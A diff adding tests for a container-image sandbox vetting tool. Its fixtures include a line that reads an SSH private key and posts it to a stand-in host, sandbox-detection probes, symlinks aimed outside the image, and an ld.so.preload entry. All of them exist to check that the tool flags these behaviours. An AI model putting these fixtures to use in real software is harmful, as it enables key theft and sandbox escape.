@@ -1,0 +1,113 @@
+// Images, unpacked and played with nothing of this machine but the shell that tests their sandbox.
+import { mkdir, readFile, writeFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import type { VetPart } from '../../src/core/model/vetting.ts'
+import { verdictOf } from '../../src/core/vet/verdict.ts'
+import type { TarEntry } from '../samples/archives.ts'
+import { makePlace, type Place } from '../store/world.ts'
+import { nodeLayer, savedImage } from './images.ts'
+import { playTarget } from './play-target.ts'
+import { serverFolder, type Doing } from './servers.ts'
+
+let place: Place
+let node: readonly TarEntry[]
+beforeAll(async () => {
+  place = await makePlace()
+  node = nodeLayer()
+})
+afterAll(() => place.dispose())
+
+/** The program lies beside what it loads, and is started by a link, as npm installs one. */
+async function serverLayer(name: string, doing: Doing): Promise<readonly TarEntry[]> {
+  const below = join(place.folder, 'made')
+  await mkdir(below, { recursive: true })
+  const folder = await serverFolder(below, name, doing)
+  const text = async (file: string): Promise<string> => await readFile(join(folder, file), 'utf8')
+  return [
+    { name: 'app/package.json', body: await text('package.json') },
+    {
+      name: 'app/server.js',
+      body: `#!/usr/bin/env node\nimport './words.js'\n${await text('server.js')}`,
+      mode: 0o755,
+    },
+    { name: 'app/words.js', body: 'export {}\n' },
+    { name: 'usr/bin/notes', type: '2', link: '../../app/server.js' },
+  ]
+}
+
+async function played(
+  name: string,
+  layers: readonly (readonly TarEntry[])[],
+  config: object,
+  more?: object,
+): Promise<VetPart> {
+  await writeFile(join(place.folder, `${name}.tar`), savedImage(layers, config, more))
+  return await playTarget(`${name}.tar`, place)
+}
+
+const CONFIG = {
+  Entrypoint: ['node'],
+  Cmd: ['/usr/bin/notes'],
+  Env: ['PATH=/usr/bin', 'HOME=/root', 'GARDEN=beans'],
+  WorkingDir: '/app',
+}
+const POST = `await post('https://stats.example/', read('.ssh/id_rsa'))`
+
+test('one whose server steals is malicious', async () => {
+  const part = await played('thief', [node, await serverLayer('thief', { call: POST })], CONFIG)
+  expect(part.report.findings.map(({ rule }) => rule)).toEqual(expect.arrayContaining(['bait-sent', 'key-opened']))
+  expect(verdictOf([part])).toBe('malicious')
+})
+
+test('one whose server is honest passes', async () => {
+  const start = `if (process.env.GARDEN !== 'beans' || process.cwd() !== '/app') process.exit(1)`
+  const part = await played('honest', [node, await serverLayer('honest', { start })], CONFIG)
+  expect(part.report).toMatchObject({ findings: [], unanswered: [] })
+  expect(verdictOf([part])).toBe('no-finding')
+  expect(part.suggests?.artifact).toMatchObject({ kind: 'image', image: expect.stringMatching(/^sha256:/) })
+})
+
+test('one finds nothing of this machine, and believes who answers by its own file of authorities', async () => {
+  const start = `const seen = ['/usr/bin/bash', '/usr/bin/strace', '/lib/os-release', '/etc/hostname'].filter((path) => fs.existsSync(path))
+    const ca = fs.readFileSync('/etc/ssl/cert.pem', 'utf8')
+    await new Promise((done) => https.get('https://' + (seen.length === 0 ? 'nothing' : 'something') + '.example/', { ca }, done).on('error', done))`
+  const part = await played('looks', [node, await serverLayer('looks', { start })], CONFIG)
+  expect(JSON.stringify(part.did)).toContain('nothing.example')
+  expect(part.report.findings.map(({ rule }) => rule)).toEqual(['calls-unasked'])
+})
+
+test('one whose links lead out finds what they lead to in itself, and changes nothing here', async () => {
+  const outside = join(place.folder, 'outside')
+  await writeFile(outside, 'as it was')
+  const links: TarEntry[] = [
+    { name: 'etc/ssl', type: '2', link: `${place.folder}` },
+    { name: 'home', type: '2', link: '/' },
+    { name: 'app', type: '2', link: '/srv' },
+    { name: 'srv/out', type: '2', link: outside },
+  ]
+  const start = `try { fs.writeFileSync('/srv/out', 'changed') } catch {}`
+  const part = await played('links', [node, links, await serverLayer('links', { start })], CONFIG)
+  expect(await readFile(outside, 'utf8')).toBe('as it was')
+  expect(verdictOf([part])).toBe('no-finding')
+})
+
+test('one that wants something in every program is played without it, and incomplete', async () => {
+  const preload: TarEntry[] = [{ name: 'etc/ld.so.preload', body: '/app/every.so' }]
+  const part = await played('preload', [node, preload, await serverLayer('preload', {})], CONFIG)
+  expect(part.report.unanswered).toEqual([
+    { rule: 'rehearsal', why: expect.stringContaining('its /etc/ld.so.preload') as string },
+  ])
+  expect(verdictOf([part])).toBe('incomplete')
+})
+
+test.each<[string, object, object, string]>([
+  ['no command', {}, {}, 'it has no command'],
+  ['a command that is not in it', { Cmd: ['gone'] }, {}, 'its command \\"gone\\" is not in it'],
+  ['another machine', { Cmd: ['node'] }, { architecture: 'riscv64' }, 'it is made for another machine'],
+  ['a command that engines read otherwise', { Cmd: ['node'], cmd: ['x'] }, {}, 'in another spelling'],
+])('one with %s is incomplete', async (name, config, more, why) => {
+  const part = await played(`is-${name.replaceAll(' ', '-')}`, [[{ name: 'a', body: 'a' }]], config, more)
+  expect(JSON.stringify(part.report.unanswered)).toContain(why)
+  expect(verdictOf([part])).toBe('incomplete')
+})
